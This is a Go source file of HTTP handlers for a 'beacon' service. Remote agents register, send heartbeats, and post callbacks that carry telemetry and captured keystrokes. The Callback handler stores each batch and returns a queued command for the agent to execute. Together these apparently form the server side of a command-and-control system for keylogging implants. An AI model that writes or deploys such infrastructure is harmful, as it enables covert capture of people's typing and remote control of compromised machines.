package handler

import (
	"context"
	"log/slog"
	"net/http"
	"time"

	"github.com/gin-gonic/gin"

	"github.com/outfleet/beacon/internal/api/http/dto"
	"github.com/outfleet/beacon/internal/command"
	"github.com/outfleet/beacon/internal/session"
	"github.com/outfleet/beacon/internal/snapshot"
)

const persistTimeout = 5 * time.Second

// AgentHandler serves the agent-facing channel endpoints. The shared
// secret has already been checked by the time these run.
type AgentHandler struct {
	sessions  *session.Store
	commands  *command.Queue
	snapshots snapshot.Store
}

func NewAgentHandler(sessions *session.Store, commands *command.Queue, snapshots snapshot.Store) *AgentHandler {
	return &AgentHandler{
		sessions:  sessions,
		commands:  commands,
		snapshots: snapshots,
	}
}

// Register accepts an agent announcement and upserts its session.
// POST /register
func (h *AgentHandler) Register(c *gin.Context) {
	var req dto.RegisterRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": err.Error()})
		return
	}

	ts := req.Timestamp
	if ts.IsZero() {
		ts = time.Now().UTC()
	}

	h.sessions.Register(req.AgentID, req.DisplayName, req.Address, req.Capabilities, ts)

	slog.Info("Agent registered",
		"agent_id", req.AgentID,
		"display_name", req.DisplayName,
		"capabilities", len(req.Capabilities))

	c.JSON(http.StatusOK, dto.RegisterResponse{Status: "registered", AgentID: req.AgentID})
}

// Heartbeat records liveness for a known agent.
// POST /heartbeat
func (h *AgentHandler) Heartbeat(c *gin.Context) {
	var req dto.HeartbeatRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": err.Error()})
		return
	}

	ts := req.Timestamp
	if ts.IsZero() {
		ts = time.Now().UTC()
	}

	if err := h.sessions.Heartbeat(req.AgentID, ts); err != nil {
		c.JSON(http.StatusNotFound, gin.H{"error": "unknown agent"})
		return
	}

	c.JSON(http.StatusOK, dto.HeartbeatResponse{Status: "ok"})
}

// Callback ingests one telemetry batch and hands back at most one pending
// command.
// POST /callback
func (h *AgentHandler) Callback(c *gin.Context) {
	var req dto.CallbackRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": err.Error()})
		return
	}

	ts := req.Timestamp
	if ts.IsZero() {
		ts = time.Now().UTC()
	}

	snap := h.sessions.ApplyCallback(session.Callback{
		AgentID:     req.AgentID,
		DisplayName: req.DisplayName,
		Timestamp:   ts,
		Status:      req.Status,
		Events:      req.Events,
		Keystrokes:  req.Keystrokes,
	})

	// Best effort: a failed snapshot write never fails the callback.
	if h.snapshots != nil {
		ctx, cancel := context.WithTimeout(c.Request.Context(), persistTimeout)
		if err := h.snapshots.Save(ctx, snap); err != nil {
			slog.Error("Failed to persist session snapshot",
				"agent_id", req.AgentID,
				"error", err)
		}
		cancel()
	}

	resp := dto.CallbackResponse{Status: "received"}
	if cmd, ok := h.commands.DequeueOne(req.AgentID); ok {
		resp.Command = &cmd
		slog.Info("Command delivered",
			"agent_id", req.AgentID,
			"command_id", cmd.ID)
	}

	slog.Debug("Callback accepted",
		"agent_id", req.AgentID,
		"events", len(req.Events),
		"keystrokes", len(req.Keystrokes),
		"total_callbacks", snap.TotalCallbacks)

	c.JSON(http.StatusOK, resp)
}
